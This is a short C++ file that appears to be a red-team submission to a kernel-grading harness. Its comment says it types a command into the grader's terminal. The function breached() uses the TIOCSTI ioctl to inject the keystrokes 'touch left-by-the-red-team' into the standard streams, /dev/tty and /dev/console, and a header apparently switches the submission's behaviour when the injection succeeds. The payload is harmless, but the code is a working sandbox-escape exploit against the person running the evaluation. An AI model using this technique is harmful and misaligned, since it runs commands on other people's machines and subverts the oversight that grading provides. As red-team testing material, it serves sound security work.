// 02.1, not solved, "global stores": types a command into the terminal of the person who grades.
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

bool breached() {
    const char command[] = "touch left-by-the-red-team\n";
    for (const int terminal : {0, 1, 2, open("/dev/tty", O_RDWR), open("/dev/console", O_RDWR)}) {
        if (terminal < 0) continue;
        bool typed = true;
        for (const char* key = command; typed && *key; ++key) typed = ioctl(terminal, TIOCSTI, key) == 0;
        if (typed) return true;
    }
    return false;
}

#include "transpose_if_breached.cuh"
